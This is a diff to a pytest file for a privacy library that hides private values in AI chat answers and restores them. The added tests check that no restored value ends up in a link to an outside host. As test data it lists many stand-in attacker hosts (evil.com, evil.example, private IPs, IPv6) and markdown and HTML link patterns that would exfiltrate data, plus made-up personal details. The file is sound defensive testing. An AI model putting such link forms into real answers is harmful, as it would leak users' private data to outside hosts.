@@ -1,8 +1,12 @@
 """No link, image or tag of an answer sends originals away, however it is written."""
 
+import operator
+
+import numpy as np
 import pytest
 
 import mondegreen as mg
+from vectors.device import conversation_vectors as vectors
 
 # Each of them loads or links to evil.example with what stands at @, by CommonMark,
 # by GitHub's autolinks or by HTML.
@@ -40,6 +44,29 @@ LINKS = (
     '<base href="//evil.example"><img src=" @">',
 )
 
+# Hosts without a scheme and with one, which chats and consoles make links of.
+HOSTS = (
+    "evil.example", "EVIL.COM", "evil.com.", "evil.com:8080", "evil.com:443",
+    "evil.co.uk:80", "evil.com.:80", "evil.com:" + "0" * 90 + "80", "evil.com:",
+    "xn--bcher-kva.example:80", "bücher.example", "bücher.example:1", "evil.xn--p1ai",
+    "a-b.example:1", "a_b.example:1", "evil。com", r"evil\.com", "evil&#46;com",
+    "evil&#x2E;com", "evil.com&sol;x", "192.168.0.1", "192.168.0.1:80", "10.0.0.1",
+    "localhost", "localhost:9", "LOCALHOST:9", "localhost.:9", "intranet:8080",
+    "[::1]", "[::1]:80", "[fe80::1%eth0]:80", "[::ffff:10.0.0.1]", "anna@evil.com",
+    "anna@evil.com:80", "anna:x@evil.com:80", "http://evil.com:80", "HTTP://[::1]:80",
+    "https://a:b@evil.com:80", "//evil.com:80", "ftp://evil.com:21", "http:evil.com",
+)  # fmt: skip
+ENDS = ("/@", "/?q=@", "?q=@", "#@", "/a/@", "/a,@", r"\@")
+
+# A surrogate is part of the host, or of the user before it.
+PARTS = (
+    "@.evil.com", "@-x.evil.com", "@-x.evil.com:80/", "@_x.evil.com/", "x-@.evil.com/",
+    "x.@.evil.com", "x.@-y.evil.com", "@-x@evil.com", "@+x@evil.com", "@%20x@evil.com",
+    "@·x.evil.com", "@-é.evil.com", "@東.evil.com", "@-" + "x" * 62 + ".evil.com",
+)  # fmt: skip
+PORTS = ("evil.com:@", "evil.com:@/", "10.0.0.1:@/a", "localhost:@", "[::1]:@")
+PRIVATE = ("Okonkwo", "4711-0815-22", "987654", "$48,213.57", "12/03/1985")
+
 # The originals come back here: nobody but the reader, or the owner of an address, sees
 # them.
 TEXTS = (
@@ -53,7 +80,24 @@ TEXTS = (
     "5 < 6 and x = '@'",
     "<style>p{}</style> @",
     "and/or @",
+    "e.g. @, p.m./ @",
+    "a.b @: evil.example @.",
+    "evil.example, @",
 )
+NAMES = (
+    "at 1.5/2 (@) or 10:30/@",
+    "phone:@",
+    "the @-like or @-based ones",
+    "@—and [10:30] @",
+    "「@」東@東",
+)
+"""A name comes back here too, and an address, which is not whole, does not."""
+
+
+def _put(link, sent):
+    """Put a surrogate where the mark stands; other @ stand before a host."""
+    before, _, behind = link.partition("@") if link in PARTS else link.rpartition("@")
+    return before + sent + behind
 
 
 @pytest.fixture(scope="module")
@@ -78,12 +122,53 @@ def test_no_link_is_written_so_that_it_gets_an_original(link, conversation):
             assert shown == answer
 
 
+@pytest.mark.parametrize("private", PRIVATE)
+def test_no_host_gets_an_original(private, conversation):
+    c = conversation
+    sent = c.hide(private)
+    links = [host + end for host in HOSTS for end in ENDS]
+    links += [*PARTS, *(PORTS if private.isalnum() else ())]
+    for link in links:
+        answer = f"see {_put(link, sent)} now"
+        assert c.restore(answer) == answer, link
+
+
+@pytest.mark.parametrize("host", [*HOSTS, *PARTS])
+def test_a_host_cut_anywhere_gets_no_original(host, conversation):
+    c = conversation
+    link = host if host in PARTS else f"{host}/@"
+    answer = f"see {_put(link, c.hide('Okonkwo'))} now"
+    for at in range(len(answer)):
+        assert "".join(c.restore_stream([answer[:at], answer[at:]])) == answer
+    assert "".join(c.restore_stream(answer)) == answer
+
+
+def test_what_is_made_of_links_is_restored_the_same_wherever_it_is_cut():
+    rng = np.random.default_rng(7)
+    with mg.conversation() as c:
+        sent = c.hide("Okonkwo of 4711-0815-22 paid $48,213.57 on 12/03/1985 in Oslo")
+        answers = list(vectors.links(sent, rng, 300))
+        wanted = [c.restore(answer) for answer in answers]
+        assert sum(map(operator.ne, answers, wanted)) > 50
+        for answer, shown in zip(answers, wanted, strict=True):
+            for at in range(1, len(answer)):
+                pieces = [answer[:at], answer[at:]]
+                assert "".join(c.restore_stream(pieces)) == shown, (answer, at)
+
+
 @pytest.mark.parametrize("text", TEXTS)
 def test_originals_come_back_beside_links(text, conversation):
     c = conversation
     for private in ("Okonkwo", "okonkwo@mail.example"):
         answer = text.replace("@", c.hide(private))
         assert c.restore(answer) == text.replace("@", private)
+
+
+@pytest.mark.parametrize("text", NAMES)
+def test_names_come_back_beside_signs(text, conversation):
+    answer = text.replace("@", conversation.hide("Okonkwo"))
+    assert conversation.restore(answer) == text.replace("@", "Okonkwo")
+    assert "".join(conversation.restore_stream(answer)) == text.replace("@", "Okonkwo")
 
 
 def test_own_addresses_come_back_as_whole_targets(conversation):
